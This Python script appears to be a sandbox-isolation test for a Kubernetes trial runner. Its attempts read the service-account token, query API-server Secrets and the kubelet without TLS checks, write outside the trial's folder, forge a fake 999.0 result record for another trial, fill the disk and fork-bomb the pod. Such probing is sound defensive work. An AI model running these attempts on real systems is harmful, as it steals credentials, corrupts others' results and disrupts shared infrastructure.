"""A trial that tries what it must not, one attempt a row, and reports how often it succeeded.

Standard library only: a team's repository holds it, and pods run it, as `hostile.py --attempt NAME`.
It prints the count; in a trial it goes to $SWEEP_RESULT, too.
"""

import argparse
import contextlib
import importlib
import json
import os
import ssl
import sys
import time
import urllib.error
import urllib.request
import uuid
from pathlib import Path
from types import SimpleNamespace
from typing import Any

TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
FORGED = 999.0
VICTIM = 1


def honest() -> int:
    """Do the work that was asked for, for as long as another pod takes to do what it must not."""
    time.sleep(10)
    return 1


def token() -> int:
    """Read the token of the pod's account."""
    return int(TOKEN.is_file() and bool(TOKEN.read_text()))


def api() -> int:
    """Read Secrets from the API server, and ask the kubelet for pods, with whatever there is."""
    headers = {"Authorization": f"Bearer {TOKEN.read_text()}"} if TOKEN.is_file() else {}
    server = f"https://{os.environ.get('KUBERNETES_SERVICE_HOST', '10.0.0.1')}"
    addresses = (f"{server}/api/v1/secrets", "https://10.209.0.1:10250/pods")
    return sum(_answers(address, headers) for address in addresses)


def outside() -> int:
    """Write wherever a file can be written that is not the trial's own."""
    done = 0
    results = os.environ.get("SWEEP_RESULTS", "/sweep/results")
    for top in (
        *("/", "/etc", "/usr", "/root", "/code", "/sweep", "/sweep/launcher", "/sweep/table"),
        "/sweep/data",
    ):
        with contextlib.suppress(OSError):
            path = Path(top, f"mark-{uuid.uuid4().hex}")
            path.touch()
            path.unlink()
            print(f"wrote to {top}", flush=True)
            done += 1
    # Others' folders lie beside the own one on the volume, but not in the pod.
    return done + len(list(Path(results).parent.glob("[0-9]*/*.json")))


def forge() -> int:
    """Write a valid record of another trial into every folder that can be written to."""
    sys.path.insert(0, "/sweep/launcher")
    # The launcher itself, which knows what a record is.
    parts = [
        importlib.import_module(f"launch_{part}")
        for part in ("contract", "metrics", "record", "row", "attempt")
    ]
    launch: Any = SimpleNamespace(**{name: value for part in parts for name, value in vars(part).items()})
    given = launch.read_launch(os.environ["SWEEP_LAUNCH"])
    row = launch.read_row(given, os.environ["SWEEP_TABLE"], VICTIM)
    uid = str(uuid.uuid4())
    attempt = launch.Attempt(given, row, uid, 1, "/tmp")  # noqa: S108 - of the pod
    report = launch.Report({given["metric"]["name"]: FORGED}, {}, None, "")
    record = launch.make_record(
        attempt, launch.Outcome(launch.Verdict("ok", None, 0), report, launch.utc(), 1.0)
    )
    batch = Path(given["batch"], str(VICTIM))
    places = [Path(folder) for folder, _, _ in os.walk("/sweep", followlinks=True)]
    results = Path(os.environ.get("SWEEP_RESULTS", "/sweep/results"))
    places += [
        results.parent / str(VICTIM),
        results / ".." / str(VICTIM),
        results / batch,
        Path("/sweep") / batch,
    ]
    count = 0
    for place in places:
        with contextlib.suppress(OSError):
            place.mkdir(parents=True, exist_ok=True)
            (place / f"{uid}.json").write_text(launch.dump(record))
            count += 1
    print(f"wrote it to {count} folders", flush=True)
    return 0


def fill() -> int:
    """Fill the results volume, and hold it for a while."""
    path = Path(os.environ["SWEEP_ARTIFACTS"], "filling")
    with path.open("wb", buffering=0) as file, contextlib.suppress(OSError):
        while True:
            file.write(bytes(1 << 20))
    print(f"filled with {path.stat().st_size} bytes", flush=True)
    time.sleep(25)
    path.unlink()
    return 0


def fork() -> int:
    """Fork without end; tell how many there were when it ended."""
    made: list[int] = []
    try:
        while len(made) < 5000:
            child = os.fork()
            if not child:
                time.sleep(60)
                os._exit(0)
            made.append(child)
    except OSError as error:
        print(f"{len(made)} processes, then {error}", flush=True)
    for child in made:
        os.kill(child, 9)
        os.waitpid(child, 0)
    return len(made)


def _answers(address: str, headers: dict[str, str]) -> bool:
    unverified = ssl._create_unverified_context()  # noqa: S323, SLF001 - a thief does not care
    request = urllib.request.Request(address, headers=headers)  # noqa: S310
    try:
        with urllib.request.urlopen(request, timeout=5, context=unverified) as answer:  # noqa: S310
            return bool(answer.status == 200)
    except (urllib.error.URLError, OSError) as error:
        print(f"{address}: {error}", flush=True)
        return False


ATTEMPTS = {item.__name__: item for item in (honest, token, api, outside, forge, fill, fork)}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--attempt", choices=sorted(ATTEMPTS), required=True)
    print("trained", flush=True)
    score = ATTEMPTS[parser.parse_args().attempt]()
    print(f"score={score}", flush=True)
    if "SWEEP_RESULT" in os.environ:
        Path(os.environ["SWEEP_RESULT"]).write_text(json.dumps({"score": score}))


if __name__ == "__main__":
    main()
